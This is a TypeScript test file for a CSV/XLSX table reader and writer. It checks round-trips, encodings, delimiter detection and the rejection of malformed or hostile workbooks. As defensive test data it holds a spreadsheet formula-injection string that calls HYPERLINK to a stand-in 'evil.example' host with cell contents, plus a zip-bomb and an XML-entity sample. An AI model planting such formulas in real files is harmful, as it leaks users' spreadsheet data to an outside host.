import { buffer } from "node:stream/consumers";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { ZipFile } from "yazl";
import { workbook } from "#server/testing/sheets/workbook.ts";
import { type Cell, UnreadableTable } from "./cell.ts";
import { csvLine } from "./csv.ts";
import { readTable, type TableFormat, writeTable } from "./table-file.ts";

/** The first character of a formula. */
const SIGN = /^[=+\-@＝＋－＠]/;
const FORMATS: TableFormat[] = ["csv", "xlsx"];

async function* rowsOf(rows: Cell[][]) {
  yield* rows;
}

const fileOf = (format: TableFormat, rows: Cell[][]) =>
  buffer(writeTable(format, rowsOf(rows), { isRightToLeft: true }));

async function read(file: Buffer, mostRows = 100) {
  const rows = [];
  for await (const row of readTable(file, mostRows)) rows.push(row);
  return rows;
}
const cellsOf = async (file: Buffer) => (await read(file)).map(({ cells }) => cells);

const reasonOf = (file: Buffer, mostRows?: number) =>
  read(file, mostRows).then(
    () => "read",
    (error: unknown) => (error instanceof UnreadableTable ? error.reason : error),
  );

describe.each(FORMATS)("%s", (format) => {
  test("reads back any written text unchanged", async () => {
    const text = fc
      .string({ unit: "grapheme", maxLength: 30 })
      .filter((word) => !word.includes("\0"));
    const formula = fc.tuple(
      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'=", "''+", "'", "a;=", "\n＝", ";'\"@"),
      text,
    );
    const cell = fc.oneof(
      text,
      formula.map((two) => two.join("")),
      fc.constant('two\r\nlines _x000D_ "q"'),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 }),
        async (rows) => {
          const table = rows.map(([a, b]) => ["x", a, b]);
          const found = await cellsOf(await fileOf(format, table));
          expect(found.map(([a = "", b = "", c = ""]) => [a, b, c])).toEqual(table);
        },
      ),
      { numRuns: 60 },
    );
  });

  test("reads back numbers and empty cells and skips empty rows", async () => {
    const rows = await read(
      await fileOf(format, [["a", 8450.5, null, -5], ["", "", "", ""], ["b"]]),
    );
    expect(rows.map(({ line, cells }) => [line, cells.filter((cell) => cell !== "")])).toEqual([
      [1, ["a", "8450.5", "-5"]],
      [3, ["b"]],
    ]);
  });

  test("rejects more rows than allowed", async () => {
    const rows = Array.from({ length: 5 }, (_, place) => [place + 1]);
    expect(await reasonOf(await fileOf(format, rows), 4)).toBe("too-many-rows");
    expect(await reasonOf(await fileOf(format, rows), 5)).toBe("read");
  });
});

/** Index of the closing quotation mark of a quoted text. */
function endOfQuoted(file: string, from: number): number {
  let at = from;
  while (at < file.length && (file[at] !== '"' || file[at + 1] === '"'))
    at += file[at] === '"' ? 2 : 1;
  return at;
}

/** Cells as Excel reads them: a quotation mark opens a text only at the start of a cell. */
function cellsBy(delimiter: string, file: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < file.length) {
    let cell = "";
    if (file[at] === '"') {
      const end = endOfQuoted(file, at + 1);
      cell = file.slice(at + 1, end).replaceAll('""', '"');
      at = end + 1;
    }
    while (at < file.length && !`${delimiter}\r\n`.includes(file[at] ?? "")) cell += file[at++];
    at += 1;
    cells.push(cell);
  }
  return cells;
}

describe.each([",", ";", "\t"])("text files split at %j", (delimiter) => {
  test.each([
    'Ali;=HYPERLINK("http://evil.example/"&A1,"open");x',
    'a\t"=1+1',
    "a\r\n＝1+1",
    "＋1",
  ])("contains no formula for %j", (text) => {
    expect(cellsBy(delimiter, csvLine(["F-1", text])).filter((cell) => SIGN.test(cell))).toEqual(
      [],
    );
  });

  test("contains no formula for any text", () => {
    const piece = fc.constantFrom(...Array.from("=+-@＝＋－＠;,\t\r\n\"' a1"));
    const text = fc.string({ unit: piece, maxLength: 12 });
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 3 }), (rows) => {
        const file = rows.map((row) => csvLine(row)).join("");
        expect(cellsBy(delimiter, file).filter((cell) => SIGN.test(cell))).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe("text files", () => {
  test.each([
    ["utf-8", Buffer.from("الكود;الاسم\r\nA-1;نجفة")],
    ["utf-16", Buffer.from("\uFEFFالكود\tالاسم\r\nA-1\tنجفة", "utf16le")],
    // As written by Excel on Arabic Windows.
    [
      "windows-1256",
      Buffer.from([
        0xc7, 0xe1, 0xdf, 0xe6, 0xcf, 0x2c, 0xc7, 0xe1, 0xc7, 0xd3, 0xe3, 0x0a, 0x41, 0x2d, 0x31,
        0x2c, 0xe4, 0xcc, 0xdd, 0xc9,
      ]),
    ],
  ])("reads %s and detects the delimiter", async (_name, file) => {
    expect(await cellsOf(file)).toEqual([
      ["الكود", "الاسم"],
      ["A-1", "نجفة"],
    ]);
  });

  test("reads a quote within a cell and rejects an unclosed quote", async () => {
    expect(await cellsOf(Buffer.from('a,b\n12" lamp,2'))).toEqual([
      ["a", "b"],
      ['12" lamp', "2"],
    ]);
    expect(await reasonOf(Buffer.from('a,b\n"open,2\n3,4'))).toBe("broken-file");
  });

  test("rejects binary files by their content", async () => {
    expect(await reasonOf(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2]))).toBe("not-a-table");
    expect(await reasonOf(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1]))).toBe("old-workbook");
  });
});

describe("workbooks", () => {
  test("reads shared strings, formulas, gaps and rounded binary numbers", async () => {
    const strings = `<sst><si><t>SKU</t></si><si><r><t>Re</t></r><r><t>d &amp; blue</t></r><rPh><t>no</t></rPh></si></sst>`;
    const sheet = `<x:worksheet xmlns:x="y"><x:sheetData><x:row r="1"><x:c r="A1" t="s"><x:v>0</x:v></x:c></x:row>
      <x:row r="4"><x:c r="A4" t="s"><x:v>1</x:v></x:c><x:c r="C4"><x:v>8450.4999999999991</x:v></x:c>
      <x:c r="D4"><x:f>C4*2</x:f><x:v>16901</x:v></x:c><x:c r="E4" t="str"><x:f>"a"</x:f><x:v>a</x:v></x:c></x:row></x:sheetData></x:worksheet>`;
    expect(await read(await workbook(sheet, { "xl/strings.xml": strings }))).toEqual([
      { line: 1, cells: ["SKU"], formulas: [] },
      { line: 4, cells: ["Red & blue", "", "8450.5", "16901", "a"], formulas: [3, 4] },
    ]);
  });

  test("rejects zip bombs, XML entities and too many columns", async () => {
    const bomb = `<worksheet><sheetData>${" ".repeat(110 * 1024 * 1024)}</sheetData></worksheet>`;
    const file = await workbook(bomb);
    expect(file.length).toBeLessThan(1024 * 1024);
    expect(await reasonOf(file)).toBe("file-too-large");
    const laughs = `<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet><row r="1"><c r="A1" t="str"><v>&a;</v></c></row></worksheet>`;
    expect(await reasonOf(await workbook(laughs))).toBe("broken-file");
    const wide = `<worksheet><row r="1"><c r="XFD1"><v>1</v></c></row></worksheet>`;
    expect(await reasonOf(await workbook(wide))).toBe("too-many-columns");
  });

  test.each([
    '<row r="abc"/>',
    '<row r="1e9"/>',
    '<row r="0"/>',
    '<row r="-1"/>',
    '<row r="1.5"/>',
    '<row r="1048577"/>',
    '<row r=""/>',
    '<row r="2"/><row r="2"/>',
    '<row r="2"/><row r="1"/>',
    '<row r="1"><row r="2"/></row>',
    '<row r="1"><c r="A2"><v>1</v></c></row>',
    '<row r="1"><c r="7"><v>1</v></c></row>',
    '<row r="1"><c r="A"><v>1</v></c></row>',
    '<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
    '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
  ])("rejects the cell positions %s as a broken file", async (rows) => {
    expect(
      await reasonOf(await workbook(`<worksheet><sheetData>${rows}</sheetData></worksheet>`)),
    ).toBe("broken-file");
  });

  test("rejects broken zip files and zip files without a workbook", async () => {
    const zip = new ZipFile();
    zip.addBuffer(Buffer.from("x"), "x.txt");
    zip.end();
    expect(await reasonOf(await buffer(zip.outputStream))).toBe("not-a-table");
    expect(await reasonOf((await workbook("<worksheet/>")).subarray(0, 300))).toBe("broken-file");
    expect(await reasonOf(await workbook("<worksheet><row>"))).toBe("broken-file");
  });
});
